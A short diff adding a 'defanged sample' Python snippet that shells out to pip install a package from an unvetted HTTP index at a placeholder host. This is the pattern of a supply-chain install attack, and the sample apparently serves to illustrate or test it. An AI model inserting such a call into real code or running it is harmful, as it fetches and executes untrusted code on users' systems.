@@ -1,0 +1,3 @@
+# defanged sample
+import os
+os.system('pip install --index-url http://index.example.invalid/simple left')
